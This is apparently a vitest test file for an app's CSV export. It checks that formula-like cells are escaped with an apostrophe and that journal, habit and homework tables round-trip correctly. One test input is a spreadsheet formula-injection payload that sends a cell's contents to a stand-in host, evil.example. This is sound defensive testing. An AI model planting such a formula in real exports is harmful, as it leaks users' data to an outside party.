import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { csvText } from '../../src/export/csv/cell.ts';
import { NOTE_TABLES } from '../../src/export/csv/tables.ts';
import { KINDS } from '../../src/notes/kinds/kinds.ts';
import { SAMPLE } from '../build-site.ts';
import { stringsOf } from '../corpora/strings.ts';
import { describeWithCorpora } from '../setup/corpora.ts';
import { textsOf, textsOfFiles } from './exported.ts';
import { MESSY } from './messy-journal.ts';

/** A table as a program reads it that knows RFC 4180 and nothing of ours: each row by the names of the columns. */
function read(text: string | undefined): Record<string, string>[] {
  return parse(text ?? '', { bom: true, columns: true, record_delimiter: '\r\n' });
}

/** What a spreadsheet may take for a formula, by its first sign. */
const FORMULA = /^\s*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]/u;

describe('a cell', () => {
  test.each([
    ['=1+1', "'=1+1"],
    ['+1 500', "'+1 500"],
    ['-', "'-"],
    ['- [?] Why?', "'- [?] Why?"],
    ['@SUM(1)', "'@SUM(1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', "'\r=1"],
    ['\n=1', "'\n=1"],
    ['  =1', "'  =1"],
    ['\u200b=1', "'\u200b=1"],
    ['\uff1d1', "'\uff1d1"],
    ['\uff0b1', "'\uff0b1"],
    ['\uff0d1', "'\uff0d1"],
    ['\uff201', "'\uff201"],
    ['=HYPERLINK("https://evil.example/?"&A1,"x")', `'=HYPERLINK("https://evil.example/?"&A1,"x")`],
  ])('that begins as the formula %j is a text behind an apostrophe', (text, cell) => {
    expect(read(csvText(['a'], [[text]]))).toEqual([{ a: cell }]);
  });

  test.each(['-3', '+2.5', '-0.25', '7', 'plain', "'quoted'", 'a=b', '2026-11-01', '\u05e9\u05dc\u05d5\u05dd'])(
    '%j stays as it is',
    (text) => expect(read(csvText(['a'], [[text]]))).toEqual([{ a: text }]),
  );

  test('is what was written, whatever it is made of, but for that apostrophe', () => {
    const cell = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 8 }),
      fc.constantFrom('"', ',', '\r\n', '"",', '\n', ';'),
    );
    const value = fc.array(cell, { minLength: 1, maxLength: 3 }).map((parts) => parts.join(''));
    fc.assert(
      fc.property(fc.array(fc.tuple(value, value), { minLength: 1, maxLength: 4 }), (rows) => {
        const back = read(csvText(['a', 'b'], rows)).map(({ a = '', b = '' }) => [a, b]);
        expect(back.map((cells) => cells.map((one) => one.replace(/^'/, '')))).toEqual(
          rows.map((cells) => cells.map((one) => one.replace(/^'/, ''))),
        );
        expect(back.flat().filter((one) => FORMULA.test(one) && !/^[-+]?\d+(?:\.\d+)?$/.test(one))).toEqual([]);
      }),
    );
  });
});

describe('the tables', () => {
  test('are in UTF-8 that Excel knows, with the lines of RFC 4180', () => {
    const { 'entries.csv': text = '' } = textsOfFiles('csv', { 'journal/2026-11-01.md': 'One\nTwo' });
    expect(text.startsWith('\ufeffpath,state,day,')).toBe(true);
    expect(text.endsWith('"One\nTwo"\r\n')).toBe(true);
  });

  test('have a row a note, with the fields of its kind by their names', () => {
    const tables = textsOf('csv', SAMPLE);
    expect(Object.keys(tables)).toEqual(
      expect.arrayContaining([
        'entries.csv',
        'sessions.csv',
        'homework.csv',
        'habits.csv',
        'habit-days.csv',
        'nights.csv',
        'measures.csv',
      ]),
    );
    const notes = Object.values(tables).flatMap((text) => read(text).filter((row) => 'imported' in row));
    const { '.json': json = '' } = textsOf('json', SAMPLE);
    const whole = JSON.parse(json) as { notes: { path: string; kind: string; fields: Record<string, unknown> }[] };
    expect(notes.map(({ path }) => path).sort()).toEqual(whole.notes.map(({ path }) => path).sort());
    const entries = whole.notes.filter(({ kind }) => kind === 'entry');
    expect(read(tables['entries.csv']).map(({ mood }) => mood)).toEqual(
      entries.map(({ fields }) => String((fields['mood'] as number | undefined) ?? '')),
    );
    const values = entries.flatMap(({ fields }) => Object.keys((fields['habits'] as object | undefined) ?? {}));
    expect(read(tables['habit-days.csv']).map(({ habit }) => habit)).toEqual(values);
  });

  test('have records within notes in tables of their own', () => {
    const tables = textsOfFiles('csv', {
      'journal/2026-11-01.md':
        '---\nnight: { in_bed: "22:45", trouble: yes }\nhabits: { tea: 3, walk: skipped }\nhomework: { one: { done: part, distress: { before: 60 } } }\nquestions: [Why?]\nfeelings: [sad, glad]\n---\n- [w] Went.\n',
      'homework/one.md': '---\nwhat: "=2+2"\npractice:\n  - { date: 2026-11-02, done: yes }\n---\n',
    });
    const row = (name: string) => read(tables[name])[0];
    expect(row('nights.csv')).toMatchObject({ day: '2026-11-01', in_bed: '22:45', trouble: 'true', hours: '' });
    expect(read(tables['habit-days.csv']).map(({ day, habit, value }) => [day, habit, value])).toEqual([
      ['2026-11-01', 'tea', '3'],
      ['2026-11-01', 'walk', 'skipped'],
    ]);
    expect(row('practice.csv')).toMatchObject({ homework: 'one', done: 'part', 'distress.before': '60' });
    expect(row('questions.csv')).toMatchObject({ ask: 'Why?', day: '2026-11-01' });
    expect(row('homework-practice.csv')).toMatchObject({ date: '2026-11-02', done: 'yes', path: 'homework/one.md' });
    expect(row('homework.csv')).toMatchObject({ what: "'=2+2" });
    expect(row('marks.csv')).toMatchObject({ kind: 'win', text: 'Went.', line: '8' });
    expect(row('entries.csv')).toMatchObject({ feelings: 'sad\nglad', text: "'- [w] Went." });
  });

  test('hold drafts and what cannot be read, and no templates', () => {
    const rows = read(textsOfFiles('csv', MESSY)['entries.csv']);
    expect(rows.find(({ path }) => path === 'journal/2026-11-09.md')).toMatchObject({
      state: 'draft',
      text: 'Not yet.',
    });
    expect(rows.find(({ path }) => path === 'journal/2026-11-02.md')).toMatchObject({
      imported: 'daylio/0a1b2c@3d',
      own_fields: 'weather: grey\nlist: a, b',
    });
    expect(rows.map(({ path }) => path)).not.toContain('templates/entry.md');
  });

  test('have names and columns that are their own, for every kind of note', () => {
    const names = NOTE_TABLES.map(({ name }) => name);
    expect(new Set(names).size).toBe(names.length);
    expect(names.length).toBeGreaterThan(KINDS.length);
    for (const { columns } of NOTE_TABLES) expect(new Set(columns).size).toBe(columns.length);
  });
});

describeWithCorpora('strings made to attack programs', (corpora) => {
  test('are no formulas in any table, and come back as they were', () => {
    const strings = stringsOf(corpora).filter((text) => text.isWellFormed());
    expect(strings.length).toBeGreaterThan(500);
    const back = read(
      csvText(
        ['a'],
        strings.map((text) => [text]),
      ),
    ).map(({ a = '' }) => a);
    expect(back.map((text) => text.replace(/^'/, ''))).toEqual(strings.map((text) => text.replace(/^'/, '')));
    expect(back.filter((text) => FORMULA.test(text) && !/^[-+]?\d+(?:\.\d+)?$/.test(text))).toEqual([]);
    const files = strings.map((text, index) => {
      const quoted = JSON.stringify(text);
      const day = `2026-01-${String((index % 28) + 1).padStart(2, '0')}-${String(index)}`;
      return [`journal/${day}.md`, `---\ntitle: ${quoted}\nprompt: ${quoted}\nown: ${quoted}\n---\n${text}\n`] as const;
    });
    const cells = read(textsOfFiles('csv', Object.fromEntries(files))['entries.csv']).flatMap((row) =>
      Object.values(row),
    );
    expect(cells.length).toBeGreaterThan(strings.length);
    expect(cells.filter((text) => FORMULA.test(text) && !/^[-+]?\d+(?:\.\d+)?$/.test(text))).toEqual([]);
  });
});
